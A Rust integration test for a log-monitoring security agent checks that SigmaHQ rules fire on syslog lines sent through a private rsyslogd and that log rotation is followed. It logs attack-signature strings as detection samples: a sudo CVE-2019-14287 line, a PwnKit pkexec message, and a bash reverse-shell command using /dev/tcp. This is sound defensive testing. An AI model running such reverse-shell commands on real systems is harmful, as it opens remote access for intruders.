//! The system-log source against a real rsyslog: a private rsyslogd (its own socket, files in
//! a temp dir) writes auth.log in its file format and a second file in RFC 5424; `logger`
//! sends sshd / sudo / pkexec / kernel-style lines; the agent follows both files and alerts
//! with SigmaHQ's rules routed by program and facility, and follows a rotation.
mod common;

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use common::daemons::{poll_until, Rsyslogd};
use common::*;
use serde_json::Value;

const SSHD: &str = "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc";
const SUDO_CVE_2019_14287: &str = "7fcc54cb-f27d-4684-84b7-436af096f858";
const PWNKIT_AUTH: &str = "0506a799-698b-43b4-85a1-ac4c84c720e9";
const SUSP_LOG_ENTRIES: &str = "f64b6e9a-5d9d-48a5-8289-e1dd2b3876e1";
/// SigmaHQ's `'|all'` keyword rules: each keyword anywhere in the line.
const NETWORKD_DISPATCHER: &str = "7ba05b43-adad-4c02-b5e9-c8c35cdf9fa8";
const JEXBOSS: &str = "8ec2c8b4-557a-4121-b87c-5dfb3a602fae";

/// A private rsyslogd: its own socket; auth,authpriv to auth.log in its file format and every
/// message to syslog5424 in RFC 5424.
struct Rsyslog {
    daemon: Rsyslogd,
    socket: PathBuf,
}

impl Rsyslog {
    fn start(dir: &Path) -> Rsyslog {
        let d = dir.display();
        let conf = format!(
            "module(load=\"imuxsock\" SysSock.Use=\"off\")\n\
             input(type=\"imuxsock\" Socket=\"{d}/log.sock\" RateLimit.Interval=\"0\")\n\
             auth,authpriv.* action(type=\"omfile\" file=\"{d}/auth.log\")\n\
             *.* action(type=\"omfile\" file=\"{d}/syslog5424\" template=\"RSYSLOG_SyslogProtocol23Format\")\n"
        );
        let socket = dir.join("log.sock");
        let daemon = Rsyslogd::start(dir, &conf, || socket.exists());
        Rsyslog { daemon, socket }
    }

    fn log(&self, priority: &str, tag: &str, msg: &str) {
        let st = Command::new("logger")
            .arg("-u")
            .arg(&self.socket)
            .args(["-p", priority, "-t", tag, msg])
            .status()
            .unwrap();
        assert!(st.success(), "logger -p {priority} -t {tag}");
    }
}

fn wait_file_has(p: &Path, needle: &str) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while !std::fs::read_to_string(p)
        .unwrap_or_default()
        .contains(needle)
    {
        assert!(
            Instant::now() < deadline,
            "{} never got {needle}",
            p.display()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn hits<'a>(alerts: &'a [Value], rule: &str, needle: &str) -> Vec<&'a Value> {
    alerts
        .iter()
        .filter(|a| {
            a["rule"]["id"] == rule
                && a["event"]["Message"]
                    .as_str()
                    .is_some_and(|m| m.contains(needle))
        })
        .collect()
}

#[test]
#[ignore = "root (the live agent) and a private rsyslogd: run by `cargo xtask test`"]
fn syslog_files_alert_by_program_and_facility_and_follow_rotation() {
    let dir = tempfile::tempdir().unwrap();
    // Files exist before the agent starts (it reads from their end): touch them via rsyslog.
    let rs = Rsyslog::start(dir.path());
    let m = marker("syslog");
    rs.log("auth.info", "warmup", &format!("{m} warmup"));
    wait_file_has(&dir.path().join("auth.log"), &m);
    wait_file_has(&dir.path().join("syslog5424"), &m);
    let agent_dir = dir.path().join("agent");
    std::fs::create_dir(&agent_dir).unwrap();
    let args: Vec<OsString> = vec![
        "--rules".into(),
        sigmahq().into(),
        "--audit-log".into(),
        "off".into(),
        "--system-log".into(),
        dir.path().join("auth.log").into(),
        "--system-log".into(),
        dir.path().join("syslog5424").into(),
        "--state-dir".into(),
        agent_dir.join("state").into(),
    ];
    let agent = Agent::start(&agent_dir, &args);
    assert_eq!(agent.ready["log_sources"].as_array().unwrap().len(), 2);

    rs.log(
        "auth.info",
        "sshd",
        &format!("Corrupted MAC on input {m}-sshd"),
    );
    rs.log(
        "auth.info",
        "notsshd",
        &format!("Corrupted MAC on input {m}-other"),
    );
    rs.log(
        "authpriv.notice",
        "sudo",
        &format!("alice : TTY=pts/0 ; PWD=/tmp/{m} ; USER=#-1 ; COMMAND=/usr/bin/id"),
    );
    let pwnkit = "pkexec: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0]";
    rs.log("auth.warning", "pkexec", &format!("{pwnkit} {m}-auth"));
    rs.log("user.warning", "pkexec", &format!("{pwnkit} {m}-user"));
    rs.log(
        "daemon.warning",
        "kernel",
        &format!("eth0: entered promiscuous mode {m}-kern"),
    );

    let a = agent.wait_for(10, 6, |a| {
        a["event"]["Message"]
            .as_str()
            .is_some_and(|s| s.contains(&m))
    });
    // sshd: routed by program name, from both files.
    let sshd = hits(&a, SSHD, &format!("{m}-sshd"));
    assert_eq!(sshd.len(), 2, "one per file: {a:#?}");
    assert!(sshd
        .iter()
        .all(|h| h["event"]["SyslogIdentifier"] == "sshd"));
    assert!(
        hits(&a, SSHD, &format!("{m}-other")).is_empty(),
        "another program's line is not sshd's"
    );
    // sudo: USER parsed out of the message.
    let sudo = hits(&a, SUDO_CVE_2019_14287, &m);
    assert_eq!(sudo.len(), 2, "{a:#?}");
    assert_eq!(sudo[0]["event"]["USER"], "#-1");
    assert_eq!(sudo[0]["event"]["COMMAND"], "/usr/bin/id");
    // auth: by facility (PRI in the RFC 5424 file, the file name for auth.log).
    assert_eq!(
        hits(&a, PWNKIT_AUTH, &format!("{m}-auth")).len(),
        2,
        "{a:#?}"
    );
    assert!(
        hits(&a, PWNKIT_AUTH, &format!("{m}-user")).is_empty(),
        "facility user is not auth"
    );
    // Bare `product: linux` keyword rules see every message.
    let kern = hits(&a, SUSP_LOG_ENTRIES, &format!("{m}-kern"));
    assert_eq!(kern.len(), 1, "{a:#?}");
    assert_eq!(kern[0]["event"]["Facility"], "daemon");
    assert_eq!(kern[0]["event"]["EventID"], 101);

    // `'|all'` keyword rules on lines as the programs write them: pkexec is the program and
    // the phrases its message; networkd-dispatcher likewise; jexboss's two keywords in one
    // message of a bare `product: linux` rule.
    rs.log(
        "authpriv.warning",
        "pkexec",
        &format!("The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] {m}-all"),
    );
    rs.log(
        "daemon.err",
        "networkd-dispatcher",
        &format!("ERROR:Error handling notification for interface ../../tmp/{m}-all"),
    );
    rs.log(
        "user.notice",
        "webapp",
        &format!("exec bash -c /bin/bash -i >&/dev/tcp/127.0.0.1/9 0>&1 {m}-all"),
    );
    // authpriv reaches both files, daemon and user only the RFC 5424 one.
    let want = [(PWNKIT_AUTH, 2), (NETWORKD_DISPATCHER, 1), (JEXBOSS, 1)];
    let all = agent.wait_until(10, |all| {
        want.iter()
            .all(|(rule, n)| hits(all, rule, &format!("{m}-all")).len() >= *n)
    });
    for (rule, files) in want {
        assert_eq!(
            hits(&all, rule, &format!("{m}-all")).len(),
            files,
            "{rule}: once per file it is in: {all:#?}"
        );
    }

    // Rotation: auth.log renamed, rsyslog told to reopen (as logrotate does).
    std::fs::rename(dir.path().join("auth.log"), dir.path().join("auth.log.1")).unwrap();
    nix_kill(rs.daemon.child.id(), 1);
    // rsyslogd reopens on its next message after the HUP: probe until a new auth.log exists.
    poll_until("rsyslogd reopened auth.log", 10, || {
        rs.log("auth.info", "probe", &format!("{m} reopen probe"));
        std::thread::sleep(Duration::from_millis(20));
        dir.path().join("auth.log").exists().then_some(())
    });
    rs.log(
        "auth.info",
        "sshd",
        &format!("Corrupted MAC on input {m}-rotated"),
    );
    wait_file_has(&dir.path().join("auth.log"), &format!("{m}-rotated"));
    let r = agent.wait_for(10, 2, |a| {
        a["rule"]["id"] == SSHD
            && a["event"]["Message"]
                .as_str()
                .is_some_and(|s| s.contains(&format!("{m}-rotated")))
    });
    assert_eq!(
        r.len(),
        2,
        "the new auth.log is followed after the rotation"
    );
    let metrics = agent.metrics();
    let series = format!(
        "aurora_log_rotations_total{{source=\"syslog\",path=\"{}\"}}",
        dir.path().join("auth.log").display()
    );
    assert_eq!(sample(&metrics, &series), 1, "{series}: {metrics}");
    agent.stop();
}
